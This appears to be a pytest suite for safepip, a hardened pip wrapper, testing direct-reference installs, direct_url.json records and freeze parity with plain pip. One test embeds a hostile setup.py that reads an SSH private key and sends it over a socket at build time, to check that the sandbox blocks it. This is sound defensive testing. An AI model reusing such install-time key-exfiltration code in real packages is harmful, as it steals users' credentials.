"""Direct references: local wheels by path and ``file://``, ``name @ URL``, git URLs; pip's
records stay true (PEP 610 ``direct_url.json``, ``pip freeze``), and a direct reference's name
never goes to an index."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest
from packaging.utils import canonicalize_name

from safepip.direct import direct_url_json, looks_like_direct, parse_direct
from safepip.errors import SafepipError, UsageError
from safepip.models import DirectReference
from tests.conftest import run_safepip
from tests.kit import Index, IndexServer, make_wheel, tree_digest


def _site(venv: Path) -> Path:
    return next((venv / "lib").glob("python*/site-packages"))


def _pip(venv: Path, *args: str, cwd: Path | None = None) -> str:
    out = subprocess.run(
        [str(venv / "bin/python"), "-m", "pip", *args],
        capture_output=True,
        text=True,
        check=False,
        cwd=cwd,
        env=dict(os.environ),
    )
    assert out.returncode == 0, out.stderr
    return out.stdout


def _plain_install(venv: Path, *args: str) -> None:
    """The same install by plain pip (the newest, the one safepip hands off to)."""
    import sys

    out = subprocess.run(
        [sys.executable, "-m", "pip", "--python", str(venv / "bin/python"), "install", "-q", *args],
        capture_output=True,
        text=True,
        check=False,
        env=dict(os.environ),
    )
    assert out.returncode == 0, out.stderr


def _freeze(venv: Path) -> list[str]:
    return sorted(_pip(venv, "freeze", "--all").splitlines())


def _direct_url(venv: Path, dist_info_glob: str) -> dict[str, object]:
    info = next(_site(venv).glob(dist_info_glob))
    record = (info / "RECORD").read_text()
    assert f"{info.name}/direct_url.json," in record  # the file is listed in RECORD
    return json.loads((info / "direct_url.json").read_text())  # type: ignore[no-any-return]


def _plain_venv(like: Path, where: Path) -> Path:
    subprocess.run(
        [str(like / "bin/python"), "-m", "venv", "--without-pip", str(where)], check=True
    )
    subprocess.run(
        ["cp", "-a", *[str(p) for p in _site(like).glob("pip*")], str(_site(where))], check=True
    )
    return where


@pytest.fixture
def local_wheel(tmp_path: Path) -> Path:
    dist = tmp_path / "dist"
    dist.mkdir()
    name, data = make_wheel("localpkg", "1.0", requires=["dep>=1"])
    path = dist / name
    path.write_bytes(data)
    return path


@pytest.fixture
def dep_index() -> Index:
    index = Index()
    index.wheel("dep", "1.0")
    index.wheel("dep", "2.0")
    index.wheel("localpkg", "99.0")  # an index copy that must never be chosen
    return index


# --- parsing, with pip's rules -------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "direct"),
    [
        ("./dist/x-1.0-py3-none-any.whl", True),
        ("x @ file:///tmp/x-1.0-py3-none-any.whl", False),  # a named requirement: parsed as one
        ("/abs/path", True),
        ("git+https://example.test/r.git", True),
        ("requests>=2", False),
        ("requests[socks]==2.0; python_version>'3'", False),
    ],
)
def test_looks_like_direct(text: str, direct: bool) -> None:
    assert looks_like_direct(text) is direct


def test_parse_wheel_path_and_url(local_wheel: Path, tmp_path: Path) -> None:
    by_path = parse_direct(str(local_wheel), "command line")
    assert by_path.name == "localpkg" and by_path.direct is not None
    assert by_path.direct.kind == "wheel" and by_path.direct.url == local_wheel.as_uri()
    named = parse_direct(f"localpkg[x] @ {local_wheel.as_uri()}#sha256={'a' * 64}", "r.txt")
    assert named.requirement.extras == {"x"}
    assert named.hashes.allowed("sha256") == {"a" * 64}


def test_parse_git_url_strips_credentials_from_what_is_shown() -> None:
    req = parse_direct("proj @ git+https://user:s3cret@example.test/r.git@v1", "command line")
    assert req.direct is not None and req.direct.kind == "vcs"
    assert "s3cret" not in req.direct.url and "s3cret" not in str(req.requirement)
    assert req.direct.credentials_url is not None and "s3cret" in req.direct.credentials_url


def test_parse_refusals(tmp_path: Path) -> None:
    with pytest.raises(UsageError) as unnamed:
        parse_direct("git+https://example.test/r.git@v1", "command line", editable=True)
    assert unnamed.value.reference == "unnamed-requirement"  # pip needs the name here too
    with pytest.raises(SafepipError):
        parse_direct(str(tmp_path / "missing-1.0-py3-none-any.whl"), "command line")
    with pytest.raises(UsageError):
        parse_direct("proj @ hg+https://example.test/r", "command line")


def test_unnamed_sources_get_a_stand_in_name_until_their_metadata_is_read(
    tmp_path: Path,
) -> None:
    project = tmp_path / "noname"
    project.mkdir()
    (project / "setup.py").write_text("from setuptools import setup\nsetup()\n")
    by_path = parse_direct(str(project), "command line")
    assert by_path.direct is not None and not by_path.direct.named
    assert by_path.name == "noname"
    by_url = parse_direct("git+https://example.test/my-repo.git@v1", "command line")
    assert by_url.direct is not None and not by_url.direct.named and by_url.name == "my-repo"
    archive = parse_direct("https://example.test/o/r/archive/v1.0.tar.gz", "command line")
    assert archive.direct is not None and not archive.direct.named
    assert archive.direct.kind == "archive"
    named = parse_direct("proj @ git+https://example.test/my-repo.git@v1", "command line")
    assert named.direct is not None and named.direct.named


def test_editables_are_refused_in_hash_checking_mode(tmp_path: Path) -> None:
    from safepip.direct import hash_mode_refusal

    project = tmp_path / "proj"
    project.mkdir()
    (project / "pyproject.toml").write_text('[project]\nname = "proj"\nversion = "1"\n')
    editable = hash_mode_refusal(parse_direct(str(project), "r.txt", editable=True))
    assert editable is not None and "editable" in str(editable)
    commit = "c" * 40
    git = parse_direct(f"proj @ git+https://example.test/r.git@{commit}", "r.txt", editable=True)
    assert hash_mode_refusal(git) is not None  # even at a fixed commit, as pip refuses it
    fixed = parse_direct(f"proj @ git+https://example.test/r.git@{commit}", "r.txt")
    assert hash_mode_refusal(fixed) is None  # not editable: a full commit id is enough


def test_static_name_from_pyproject(tmp_path: Path) -> None:
    project = tmp_path / "proj"
    project.mkdir()
    (project / "pyproject.toml").write_text('[project]\nname = "My.Proj"\nversion = "1"\n')
    req = parse_direct(str(project), "command line", editable=True)
    assert req.name == "my-proj" and req.direct is not None
    assert req.direct.kind == "directory" and req.direct.editable


@pytest.mark.parametrize(
    ("reference", "expected"),
    [
        (
            DirectReference("file:///w/x-1.0-py3-none-any.whl", "wheel"),
            {
                "url": "file:///w/x-1.0-py3-none-any.whl",
                "archive_info": {"hash": "sha256=ab", "hashes": {"sha256": "ab"}},
            },
        ),
        (DirectReference("file:///w/proj", "directory"), {"url": "file:///w/proj", "dir_info": {}}),
        (
            DirectReference("file:///w/proj", "directory", editable=True),
            {"url": "file:///w/proj", "dir_info": {"editable": True}},
        ),
        (
            DirectReference(
                "git+https://h.test/r.git@v1", "vcs", subdirectory="sub", commit_id="c" * 40
            ),
            {
                "url": "https://h.test/r.git",
                "vcs_info": {"vcs": "git", "commit_id": "c" * 40, "requested_revision": "v1"},
                "subdirectory": "sub",
            },
        ),
    ],
)
def test_direct_url_records(reference: DirectReference, expected: dict[str, object]) -> None:
    sha = "ab" if reference.kind == "wheel" else None
    assert direct_url_json(reference, sha256=sha, commit_id=reference.commit_id) == expected


# --- end to end ------------------------------------------------------------------------------


def test_local_wheel_by_path_matches_plain_pip(
    local_wheel: Path, dep_index: Index, target_venv: Path, tmp_path: Path
) -> None:
    with IndexServer(dep_index) as server:
        result = run_safepip(
            "install",
            "--python",
            str(target_venv / "bin/python"),
            "-i",
            server.simple_url,
            str(local_wheel),
        )
        assert result.returncode == 0, result.stderr
        assert not any(p.startswith("/simple/localpkg") for _, p, _ in server.requests)
        plain = _plain_venv(target_venv, tmp_path / "plain")
        _plain_install(plain, "-i", server.simple_url, str(local_wheel))
    assert _freeze(target_venv) == _freeze(plain)
    assert any(
        line.startswith(f"localpkg @ {local_wheel.as_uri()}") for line in _freeze(target_venv)
    )
    assert _direct_url(target_venv, "localpkg-1.0.dist-info") == _direct_url(
        plain, "localpkg-1.0.dist-info"
    )


def test_named_url_in_requirements_file_with_hash(
    local_wheel: Path, dep_index: Index, target_venv: Path, tmp_path: Path
) -> None:
    dep_index.add((local_wheel.name, local_wheel.read_bytes()), project="elsewhere")
    with IndexServer(dep_index) as server:
        url = f"{server.url}/files/{local_wheel.name}"
        import hashlib

        good = hashlib.sha256(local_wheel.read_bytes()).hexdigest()
        reqs = tmp_path / "requirements.txt"
        reqs.write_text(
            f"localpkg @ {url} --hash=sha256:{good}\ndep==2.0 --hash=sha256:{dep_index.find('dep-2.0-py3-none-any.whl').sha256}\n"
        )  # type: ignore[union-attr]
        args = ("install", "--python", str(target_venv / "bin/python"), "-i", server.simple_url)
        result = run_safepip(*args, "-r", str(reqs))
        assert result.returncode == 0, result.stderr
        assert any(line.startswith(f"localpkg @ {url}") for line in _freeze(target_venv))
        assert "dep==2.0" in _freeze(target_venv)


def test_report_marks_direct_references(
    local_wheel: Path, dep_index: Index, tmp_path: Path
) -> None:
    report = tmp_path / "report.json"
    with IndexServer(dep_index) as server:
        result = run_safepip(
            "install",
            "--dry-run",
            "--ignore-installed",
            "-i",
            server.simple_url,
            "--report",
            str(report),
            str(local_wheel),
        )
    assert result.returncode == 0, result.stderr
    items = {i["metadata"]["name"]: i for i in json.loads(report.read_text())["install"]}
    assert items["localpkg"]["is_direct"] is True
    assert items["localpkg"]["download_info"]["url"] == local_wheel.as_uri()
    assert "sha256" in items["localpkg"]["download_info"]["archive_info"]["hashes"]
    assert items["dep"]["is_direct"] is False


def test_direct_url_hash_mismatch_refused_and_target_unchanged(
    local_wheel: Path, dep_index: Index, target_venv: Path
) -> None:
    before = tree_digest(target_venv)
    with IndexServer(dep_index) as server:
        result = run_safepip(
            "install",
            "--python",
            str(target_venv / "bin/python"),
            "-i",
            server.simple_url,
            f"localpkg @ {local_wheel.as_uri()}#sha256={'0' * 64}",
        )
    assert result.returncode == 3, result.stderr
    assert "hash" in result.stderr and "Traceback" not in result.stderr
    assert tree_digest(target_venv) == before


def test_direct_reference_pins_its_project_even_for_dependents(
    tmp_path: Path, target_venv: Path
) -> None:
    """A dependency named by a direct reference comes from there, never from an index."""
    index = Index()
    index.wheel("app", "1.0", requires=["localpkg>=1"])
    index.wheel("localpkg", "99.0")
    name, data = make_wheel("localpkg", "1.0")
    wheel = tmp_path / name
    wheel.write_bytes(data)
    with IndexServer(index) as server:
        result = run_safepip(
            "install",
            "--python",
            str(target_venv / "bin/python"),
            "-i",
            server.simple_url,
            "app",
            f"localpkg @ {wheel.as_uri()}",
        )
        assert result.returncode == 0, result.stderr
        assert not any(p.startswith("/simple/localpkg") for _, p, _ in server.requests)
    freeze = _freeze(target_venv)
    assert "app==1.0" in freeze
    assert any(line.startswith(f"localpkg @ {wheel.as_uri()}") for line in freeze)


def _commit_tagged(path: Path) -> None:
    """Make ``path`` a git repository with everything in one commit, tagged v1."""
    env = dict(
        os.environ,
        GIT_AUTHOR_NAME="t",
        GIT_AUTHOR_EMAIL="t@example.test",
        GIT_COMMITTER_NAME="t",
        GIT_COMMITTER_EMAIL="t@example.test",
    )
    for args in (
        ["init", "-q", "-b", "main"],
        ["add", "-A"],
        ["commit", "-qm", "one"],
        ["tag", "v1"],
    ):
        subprocess.run(["git", *args], cwd=path, check=True, env=env)


def _git_repo(path: Path, files: dict[str, str]) -> str:
    path.mkdir(parents=True)
    for name, text in files.items():
        (path / name).parent.mkdir(parents=True, exist_ok=True)
        (path / name).write_text(text)
    _commit_tagged(path)
    hook = path / ".git" / "hooks" / "post-checkout"
    hook.write_text(f"#!/bin/sh\ntouch {path.parent / 'HOOK-RAN'}\n")
    hook.chmod(0o755)
    return subprocess.run(
        ["git", "rev-parse", "HEAD"], cwd=path, capture_output=True, text=True, check=True
    ).stdout.strip()


def test_git_checkout_runs_no_hook_and_reports_the_commit(tmp_path: Path) -> None:
    from safepip.vcs import checkout

    commit = _git_repo(tmp_path / "repo", {"pyproject.toml": '[project]\nname = "g"\n'})
    done = checkout(f"git+{(tmp_path / 'repo').as_uri()}@v1", tmp_path / "co")
    assert done.commit_id == commit and done.moving
    assert (done.tree / "pyproject.toml").is_file()
    assert not (tmp_path / "HOOK-RAN").exists()
    fixed = checkout(f"git+{(tmp_path / 'repo').as_uri()}@{commit}", tmp_path / "co2")
    assert not fixed.moving


def _project(
    root: Path, name: str, version: str, backend: str, setup_py: str | None = None
) -> Path:
    """A project directory for ``backend`` ("setuptools", "hatchling" or "flit")."""
    import io
    import tarfile

    from tests.buildkit import make_project_sdist

    _, data = make_project_sdist(name, version, backend, setup_py=setup_py)
    with tarfile.open(fileobj=io.BytesIO(data)) as tf:
        tf.extractall(root, filter="data")
    (tree,) = [p for p in root.iterdir() if p.is_dir()]
    (tree / "PKG-INFO").unlink()
    for path in [tree, *tree.rglob("*")]:
        os.utime(path)  # a checkout has today's times; wheels cannot hold times before 1980
    return tree


@pytest.fixture
def backends() -> Index:
    from tests.buildkit import add_backends

    index = Index()
    add_backends(index)
    return index


def test_setuptools_flat_layout_editable_passes_the_wheel_gate(
    backends: Index, target_venv: Path, tmp_path: Path
) -> None:
    """A setuptools editable installs a start-up import hook (.pth with an import line): the
    wheel content gate allows it because safepip built it from the user's own tree, and the
    report says so."""
    tree = _project(tmp_path / "src", "flat-proj", "1.0", "setuptools")
    report = tmp_path / "report.json"
    with IndexServer(backends) as server:
        result = run_safepip(
            "install",
            "--python",
            str(target_venv / "bin/python"),
            "-i",
            server.simple_url,
            "--report",
            str(report),
            "-e",
            str(tree),
        )
    assert result.returncode == 0, result.stderr
    pth = [p.read_text() for p in _site(target_venv).glob("*.pth") if "flat" in p.name]
    assert pth and any(line.startswith("import ") for text in pth for line in text.splitlines())
    findings = json.loads(report.read_text())["safepip"]["findings"]
    startup = [f for f in findings if f["project"] == "flat-proj" and f["rule"] == "startup-code"]
    assert startup and startup[0]["action"] == "report", findings
    assert "your own tree" in startup[0]["message"]


def test_hostile_build_plugin_in_own_project_gets_no_secrets(
    backends: Index, target_venv: Path, tmp_path: Path, isolate: Path
) -> None:
    """The user's own project still builds without network and without their home."""
    import socket
    import threading

    (isolate / ".ssh").mkdir()
    (isolate / ".ssh" / "id_rsa").write_text("CANARY-KEY\n")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.2)
    port = listener.getsockname()[1]
    received: list[bytes] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            received.append(conn.recv(1024))
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    setup_py = (
        "import os, socket\n"
        "from setuptools import setup\n"
        "data = b''\n"
        "try:\n"
        f"    data = open({str(isolate / '.ssh' / 'id_rsa')!r}, 'rb').read()\n"
        "except OSError:\n"
        "    pass\n"
        "try:\n"
        f"    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'x' + data)\n"
        "except OSError:\n"
        "    pass\n"
        "setup()\n"
    )
    tree = _project(tmp_path / "src", "own-proj", "1.0", "setuptools", setup_py=setup_py)
    # The static scan would refuse this setup.py outright; let it run, to test the sandbox.
    policy = tmp_path / "policy.toml"
    policy.write_text('[scan]\nallow = ["own-proj"]\n')
    try:
        with IndexServer(backends) as server:
            result = run_safepip(
                "install",
                "--python",
                str(target_venv / "bin/python"),
                "-i",
                server.simple_url,
                "--policy",
                str(policy),
                str(tree),
            )
    finally:
        stop.set()
        thread.join(timeout=5)
        listener.close()
    assert result.returncode == 0, result.stderr
    assert received == []


def _head(repo: Path) -> str:
    return subprocess.run(
        ["git", "rev-parse", "HEAD"], cwd=repo, capture_output=True, text=True, check=True
    ).stdout.strip()


@pytest.mark.parametrize("backend", ["setuptools", "hatchling", "flit"])
def test_every_local_form_matches_plain_pip(
    backend: str, backends: Index, target_venv: Path, tmp_path: Path
) -> None:
    """One install of every local form pip takes — a directory, an editable directory, a
    wheel by path, an unnamed git URL at a tag and a named one at a commit — gives the same
    installed set and `pip freeze` as plain pip, and the report records both commits."""
    short = backend[:4]
    directory = _project(tmp_path / "a", f"dir-{short}", "1.0", backend)
    editable = _project(tmp_path / "b", f"edit-{short}", "1.0", backend)
    at_tag = _project(tmp_path / "c", f"tag-{short}", "1.0", backend)
    at_commit = _project(tmp_path / "d", f"commit-{short}", "1.0", backend)
    _commit_tagged(at_tag)
    _commit_tagged(at_commit)
    wheel_name, data = make_wheel(f"whl-{short}", "1.0")
    wheel = tmp_path / wheel_name
    wheel.write_bytes(data)
    import tarfile

    packed = _project(tmp_path / "e", f"tgz-{short}", "1.0", backend)
    archive = tmp_path / "v1.0.tar.gz"  # as a forge names the archive of a tag: no name in it
    with tarfile.open(archive, "w:gz") as tf:
        tf.add(packed, arcname="project-v1.0")
    forms = [
        str(directory),
        "-e",
        str(editable),
        str(wheel),
        str(archive),
        f"git+{at_tag.as_uri()}@v1",
        f"commit-{short} @ git+{at_commit.as_uri()}@{_head(at_commit)}",
    ]
    report = tmp_path / "report.json"
    with IndexServer(backends) as server:
        python = str(target_venv / "bin/python")
        args = ("install", "--python", python, "-i", server.simple_url, "--report", str(report))
        ours = run_safepip(*args, *forms)
        assert ours.returncode == 0, ours.stderr
        plain = _plain_venv(target_venv, tmp_path / "plain")
        _plain_install(plain, "-i", server.simple_url, *forms)
    assert "sandbox" in ours.stdout and "can move" in ours.stdout + ours.stderr
    assert _freeze(target_venv) == _freeze(plain)
    assert _direct_url(target_venv, f"edit_{short}-1.0.dist-info") == {
        "url": editable.as_uri(),
        "dir_info": {"editable": True},
    }
    tag_line = f" @ git+{at_tag.as_uri()}@{_head(at_tag)}"  # the unnamed URL, named by pip's rules
    assert [line.endswith(tag_line) for line in _freeze(target_venv)].count(True) == 1
    vcs = [i for i in json.loads(report.read_text())["install"] if "vcs_info" in i["download_info"]]
    assert sorted(i["download_info"]["vcs_info"].get("requested_revision", "") for i in vcs) == [
        _head(at_commit),
        "v1",
    ]
    commits = {
        i["metadata"]["name"]: i["download_info"]["vcs_info"]["commit_id"]
        for i in json.loads(report.read_text())["install"]
        if "vcs_info" in i["download_info"]
    }
    assert {canonicalize_name(k): v for k, v in commits.items()} == {
        f"tag-{short}": _head(at_tag),
        f"commit-{short}": _head(at_commit),
    }
    module = f"edit_{short}"
    probe = f"import {module} as m; print(m.__file__); print(m.__version__)"
    run = [str(target_venv / "bin/python"), "-c", probe]
    first = subprocess.run(run, capture_output=True, text=True, check=True).stdout.splitlines()
    assert first[0].startswith(str(editable))  # the import resolves to the source tree
    (editable / module / "__init__.py").write_text("__version__ = 'edited'\n")
    second = subprocess.run(run, capture_output=True, text=True, check=True).stdout.splitlines()
    assert second[1] == "edited"  # an edit shows without reinstalling


def test_editable_git_checks_out_under_src_like_plain_pip(
    backends: Index, target_venv: Path, tmp_path: Path
) -> None:
    """`-e NAME @ git+URL` is cloned into the target's `src` (pip's default) without hooks,
    built editable in the sandbox, and recorded as pip records it: `pip freeze` shows
    `-e git+URL@<commit>#egg=name`, and the import resolves to the checkout."""
    repo = _project(tmp_path / "repo", "edit-git", "1.0", "hatchling")
    _commit_tagged(repo)
    hook = repo / ".git" / "hooks" / "post-checkout"
    hook.write_text(f"#!/bin/sh\ntouch {tmp_path / 'HOOK-RAN'}\n")
    hook.chmod(0o755)
    form = f"edit-git @ git+{repo.as_uri()}@v1"
    with IndexServer(backends) as server:
        python = str(target_venv / "bin/python")
        ours = run_safepip("install", "--python", python, "-i", server.simple_url, "-e", form)
        assert ours.returncode == 0, ours.stderr
        plain = _plain_venv(target_venv, tmp_path / "plain")
        _plain_install(plain, "-i", server.simple_url, "-e", form)
        again = run_safepip("install", "--python", python, "-i", server.simple_url, "-e", form)
        assert again.returncode == 0, again.stderr
    assert not (tmp_path / "HOOK-RAN").exists()
    checkout = target_venv / "src" / "edit-git"
    assert _head(checkout) == _head(repo)
    freeze = _freeze(target_venv)
    assert f"-e git+{repo.as_uri()}@{_head(repo)}#egg=edit_git" in freeze
    assert freeze == _freeze(plain)
    ours_url = _direct_url(target_venv, "edit_git-1.0.dist-info")
    assert ours_url == {"url": checkout.as_uri(), "dir_info": {"editable": True}}
    assert _direct_url(plain, "edit_git-1.0.dist-info") == {
        "url": (plain / "src" / "edit-git").as_uri(),
        "dir_info": {"editable": True},
    }
    probe = "import edit_git; print(edit_git.__file__)"
    where = subprocess.run(
        [python, "-c", probe], capture_output=True, text=True, check=True
    ).stdout.strip()
    assert where.startswith(str(checkout))


def test_editable_git_refuses_a_foreign_directory_under_src(
    backends: Index, target_venv: Path, tmp_path: Path
) -> None:
    repo = _project(tmp_path / "repo", "edit-git", "1.0", "flit")
    _commit_tagged(repo)
    taken = tmp_path / "mysrc" / "edit-git"
    taken.mkdir(parents=True)
    (taken / "notes.txt").write_text("mine\n")
    with IndexServer(backends) as server:
        result = run_safepip(
            "install",
            "--python",
            str(target_venv / "bin/python"),
            "-i",
            server.simple_url,
            "--src",
            str(tmp_path / "mysrc"),
            "-e",
            f"edit-git @ git+{repo.as_uri()}@v1",
        )
        # A fresh clone whose project turns out not to be the one named is removed again.
        wrong = run_safepip(
            "install",
            "--python",
            str(target_venv / "bin/python"),
            "-i",
            server.simple_url,
            "--src",
            str(tmp_path / "mysrc"),
            "-e",
            f"other-name @ git+{repo.as_uri()}@v1",
        )
    assert result.returncode != 0 and "not a clone of" in result.stderr, result.stderr
    assert "Traceback" not in result.stderr
    assert (taken / "notes.txt").read_text() == "mine\n"
    assert wrong.returncode == 3 and "metadata-mismatch" in wrong.stderr, wrong.stderr
    assert not (tmp_path / "mysrc" / "other-name").exists()


def test_editable_again_is_a_no_op_until_its_configuration_changes(
    backends: Index, target_venv: Path, tmp_path: Path
) -> None:
    """`install -e .` of an unchanged project installs nothing and builds nothing; a change to
    its dependencies in pyproject.toml builds and installs again."""
    backends.wheel("dep", "1.0")
    tree = _project(tmp_path / "src", "again-proj", "1.0", "flit")
    python = str(target_venv / "bin/python")
    with IndexServer(backends) as server:
        args = ("install", "--python", python, "-i", server.simple_url, "-e")
        first = run_safepip(*args, str(tree), cwd=tmp_path)
        assert first.returncode == 0 and "Building" in first.stdout, first.stderr
        info = next(_site(target_venv).glob("again_proj-1.0.dist-info"))
        before = tree_digest(target_venv)
        second = run_safepip(*args, ".", cwd=tree)  # the same directory, named as users do
        assert second.returncode == 0, second.stderr
        assert "Building" not in second.stdout + second.stderr
        assert "Requirement already satisfied: again-proj==1.0" in second.stdout
        assert tree_digest(target_venv) == before
        pyproject = tree / "pyproject.toml"
        text = pyproject.read_text().replace(
            "[project]\n", '[project]\ndependencies = ["dep>=1"]\n'
        )
        pyproject.write_text(text)
        third = run_safepip(*args, str(tree), cwd=tmp_path)
        assert third.returncode == 0 and "Building" in third.stdout, third.stderr
        requires = (info / "METADATA").read_text()
    assert "Requires-Dist: dep>=1" in requires
    assert "dep==1.0" in _freeze(target_venv)
    assert (info / "direct_url.json").is_file()
    # Not editable now, then again after an edit at the same version: pip reinstalls a local
    # project each time, and so does safepip.
    with IndexServer(backends) as server:
        plain_args = ("install", "--python", python, "-i", server.simple_url, str(tree))
        regular = run_safepip(*plain_args)
        assert regular.returncode == 0, regular.stderr
        module = _site(target_venv) / "again_proj" / "__init__.py"
        assert module.is_file() and _direct_url(target_venv, info.name)["dir_info"] == {}
        (tree / "again_proj" / "__init__.py").write_text("__version__ = 'edited'\n")
        edited = run_safepip(*plain_args)
        assert edited.returncode == 0, edited.stderr
    assert module.read_text() == "__version__ = 'edited'\n"
    assert "dep==1.0" in _freeze(target_venv)  # the dependency installed before is kept
    gone = run_safepip("uninstall", "--python", python, "-y", "again-proj")
    assert gone.returncode == 0, gone.stderr
    assert not info.exists()  # the recorded state is in RECORD: uninstall removes it too
    assert not [p for p in _site(target_venv).iterdir() if "again" in p.name]
